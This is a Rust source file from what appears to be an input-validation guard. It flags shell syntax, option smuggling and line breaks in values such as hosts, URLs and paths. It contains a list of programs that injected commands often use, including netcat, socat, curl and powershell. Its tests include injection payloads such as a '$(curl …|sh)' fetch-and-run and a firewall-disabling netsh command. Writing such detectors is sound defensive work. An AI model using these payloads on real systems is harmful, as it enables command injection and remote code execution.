//! `command`, in values that are no commands: what a shell would take for more than one word.

use super::Hit;
use super::role::Role;
use super::unescape::unescape;
use super::words::first;
use crate::guard::{Guard, Level};

const SYNTAX: Hit =
    Hit::new(Guard::Command, "shell-syntax", "shell syntax in a value that is no command", Level::Certain);
const OPTION: Hit =
    Hit::new(Guard::Command, "option", "value that a program would take for an option", Level::Certain);
const LINE: Hit = Hit::new(Guard::Command, "line-break", "line break in a value of one line", Level::Likely);

pub(super) const HITS: &[Hit] = &[SYNTAX, OPTION, LINE];

/// Checks a value in which shell syntax has no place.
pub(super) fn in_value(text: &str, role: Role) -> Vec<Hit> {
    let mut hits = Vec::new();
    if matches!(role, Role::Host | Role::Url | Role::Path) && is_option(text) {
        hits.push(OPTION);
    }
    if is_syntax(text, role)
        || (text.contains('%') && role != Role::Pattern && is_syntax(&unescape(text).text, role))
    {
        hits.push(SYNTAX);
    } else if role == Role::Host && text.trim_end().contains(['\n', '\r']) {
        hits.push(LINE);
    }
    hits
}

/// `--upload-pack=…`, `-oProxyCommand=…`: an option where a name should stand.
fn is_option(text: &str) -> bool {
    let text = text.trim_start();
    text.starts_with("--") && text.len() > 3
        || (text.starts_with('-')
            && text.get(1..2).is_some_and(|c| c.chars().all(char::is_alphabetic))
            && text.len() > 3)
}

fn is_syntax(text: &str, role: Role) -> bool {
    if !text.contains(['$', '`', ';', '|', '&', '\n', '\r', '<', '>', '\\', '(', '{', '\u{a}']) {
        return false;
    }
    if substitutes(text) || text.contains("() {") || text.contains("(){") {
        return true;
    }
    let narrow = role == Role::Host;
    let wide = matches!(role, Role::Scalar | Role::Pattern);
    breaks(text).any(|(sign, rest)| {
        // Quotes and backslashes inside of a word are a shell's: `w'h'o`, `c\\at`.
        let head = rest.get(..rest.floor_char_boundary(12)).unwrap_or_default().trim_start();
        let unquoted = if head.get(1..).is_some_and(|head| head.contains(['\'', '\\', '^'])) {
            rest.replace(['\'', '"', '\\', '^'], "")
        } else {
            rest.to_owned()
        };
        let rest = unquoted.as_str();
        let word = first(rest).trim_end_matches(['.', '/']);
        let lead = rest.trim_start();
        if narrow && !matches!(sign, ">" | "<") {
            return true;
        }
        let command =
            is_command(word) || lead.starts_with('/') && is_program(word) || lead.starts_with("/???");
        match sign {
            // A query string has these; a command behind a blank or a known one is none.
            "&" if role == Role::Url => {
                is_command(word)
                    && (rest.starts_with(' ')
                        || lead.len() == word.len()
                        || lead.get(word.len()..).is_some_and(|tail| tail.starts_with(' ')))
            }
            ">" | "<" | ">>" => !wide && (word.starts_with('/') || is_file(word)) && role != Role::Url,
            _ if wide => command && stands_alone(lead, word),
            "&&" | "||" | "|" | ";" | "&" | "\n" => {
                command || (role == Role::Url && word.len() > 1 && rest.starts_with(' '))
            }
            _ => false,
        }
    })
}

/// `$(…)`, `` `…` ``, `${…}` with shell expansions, `<(…)`.
fn substitutes(text: &str) -> bool {
    let ifs = text.contains("$IFS") || text.contains("${IFS") || text.contains("$@") && text.contains(';');
    let dollar = text
        .match_indices("$(")
        .any(|(at, _)| !text.get(at + 2..).unwrap_or_default().starts_with('(') || text.contains("$(("))
        && text.contains(')');
    let tick = text.find('`').is_some_and(|open| {
        let inside = text.get(open + 1..).unwrap_or_default();
        inside.find('`').is_some_and(|close| {
            inside.get(..close).is_some_and(|inside| is_command(first(inside)) || inside.starts_with('/'))
        })
    });
    let process = text
        .match_indices("<(")
        .chain(text.match_indices(">("))
        .any(|(at, _)| text.get(at + 2..).is_some_and(|rest| is_command(first(rest))));
    let braces = text.match_indices('{').any(|(at, _)| {
        let inside = text.get(at + 1..).unwrap_or_default();
        inside.contains(',') && inside.contains('}') && is_command(first(inside)) && !inside.contains(' ')
    });
    ifs || dollar || tick || process || braces
}

/// Where a shell would begin another command: the sign, and what stands behind it.
fn breaks(text: &str) -> impl Iterator<Item = (&'static str, &str)> {
    const SIGNS: [&str; 11] = ["&&", "||", ">>", ";", "|", "&", ">", "<", "\n", "\r", "\\n"];
    let mut at = 0;
    std::iter::from_fn(move || {
        while let Some(rest) = text.get(at..).filter(|rest| !rest.is_empty()) {
            if let Some(sign) = SIGNS.iter().find(|sign| rest.starts_with(**sign)) {
                at += sign.len();
                let sign = if matches!(*sign, "\r" | "\\n") { "\n" } else { sign };
                return Some((sign, text.get(at..).unwrap_or_default()));
            }
            at += rest.chars().next().map_or(1, char::len_utf8);
        }
        None
    })
}

/// `; id`, `| cat /x` and `&& ls`, but not "; cat people and more" in a title.
fn stands_alone(lead: &str, word: &str) -> bool {
    let tail = lead.get(word.len()..).unwrap_or_default();
    let tail_word = first(tail);
    tail.trim().is_empty()
        || tail.starts_with([';', '|', '&', '#', '\n', '"', '\'', '(', ')'])
        || tail
            .trim_start()
            .starts_with(['-', '/', '$', '"', '\'', '.', '~', '<', '>', '|', '&', ';', '%', '*'])
        || tail_word.contains(['/', '.'])
        || tail_word.bytes().all(|byte| byte.is_ascii_digit())
        || (word == "net" && ["view", "user", "use", "start", "localgroup", "share"].contains(&tail_word))
        || matches!(
            word,
            "curl"
                | "wget"
                | "nc"
                | "ping"
                | "nslookup"
                | "ifconfig"
                | "netsh"
                | "whoami"
                | "powershell"
                | "netstat"
        )
}

fn is_file(word: &str) -> bool {
    word.contains('.') && !word.starts_with('.')
}

/// The last part of a path that looks like a program: `/bin/sh`.
fn is_program(word: &str) -> bool {
    ["/bin/", "/usr/", "/sbin/", "/tmp/", "/opt/", "/???/"].iter().any(|place| word.starts_with(place))
}

pub(super) fn is_command(word: &str) -> bool {
    let name = word.rsplit('/').next().unwrap_or(word).to_ascii_lowercase();
    let name = name.trim_end_matches(".exe");
    COMMANDS.binary_search(&name).is_ok() || name.starts_with("python3.")
}

/// Programs that injected commands begin with; sorted.
const COMMANDS: &[&str] = &[
    "ash",
    "awk",
    "base64",
    "bash",
    "busybox",
    "cat",
    "chmod",
    "chown",
    "cmd",
    "cp",
    "crontab",
    "csh",
    "curl",
    "cut",
    "dash",
    "date",
    "dd",
    "del",
    "dig",
    "dir",
    "docker",
    "echo",
    "env",
    "eval",
    "exec",
    "export",
    "expr",
    "fetch",
    "find",
    "ftp",
    "gcc",
    "getent",
    "git",
    "grep",
    "head",
    "host",
    "hostname",
    "id",
    "ifconfig",
    "ip",
    "ipconfig",
    "java",
    "kill",
    "ksh",
    "less",
    "ln",
    "ls",
    "lynx",
    "mail",
    "mkdir",
    "mkfifo",
    "more",
    "mount",
    "mv",
    "nc",
    "ncat",
    "net",
    "netcat",
    "netsh",
    "netstat",
    "node",
    "nohup",
    "nslookup",
    "openssl",
    "passwd",
    "perl",
    "php",
    "ping",
    "powershell",
    "print",
    "printenv",
    "printf",
    "ps",
    "pwd",
    "pwsh",
    "python",
    "python2",
    "python3",
    "read",
    "reboot",
    "reg",
    "rm",
    "rmdir",
    "route",
    "ruby",
    "rundll32",
    "scp",
    "screen",
    "sed",
    "set",
    "setenv",
    "sh",
    "shutdown",
    "sleep",
    "socat",
    "sort",
    "source",
    "ssh",
    "stat",
    "su",
    "sudo",
    "system",
    "systeminfo",
    "tac",
    "tail",
    "tar",
    "taskkill",
    "tasklist",
    "tcpdump",
    "tee",
    "telnet",
    "tftp",
    "time",
    "timeout",
    "touch",
    "traceroute",
    "type",
    "uname",
    "useradd",
    "ver",
    "vi",
    "vim",
    "wall",
    "wget",
    "which",
    "who",
    "whoami",
    "wmic",
    "xargs",
    "xterm",
    "zsh",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_commands_are_sorted() {
        assert!(COMMANDS.is_sorted());
    }

    #[test]
    fn what_people_write_is_no_shell_syntax() {
        for text in [
            "AT&T; Verizon; T-Mobile coverage map",
            "Ben & Jerry's; Inc.",
            "Drop table tennis & delete old users",
            "R&D; find people",
            "a < b and c > d",
            "cats & dogs | pets",
            "Fix: `useState` hook; update docs",
        ] {
            assert!(in_value(text, Role::Scalar).is_empty(), "{text}");
        }
        assert!(in_value("https://example.com/a?x=1&id=2&date=3#top", Role::Url).is_empty());
        assert!(in_value("src/{a,b}/**/*.rs", Role::Pattern).is_empty());
    }

    #[test]
    fn a_second_command_is() {
        for (text, role) in [
            ("8.8.8.8; id", Role::Host),
            ("8.8.8.8|whoami", Role::Host),
            ("x$(curl http://a/b|sh)", Role::Scalar),
            ("photo.jpg\";id;\"", Role::Scalar),
            ("photo.jpg| ifconfig", Role::Scalar),
            ("main`id`", Role::Host),
            ("https://a/b.git& netsh firewall set opmode disable", Role::Url),
            ("x${IFS}y", Role::Scalar),
            ("a\n/bin/sh -c \"id\"", Role::Scalar),
        ] {
            assert_eq!(in_value(text, role), [SYNTAX], "{text}");
        }
        assert_eq!(in_value("--upload-pack=/tmp/x", Role::Host), [OPTION]);
    }
}
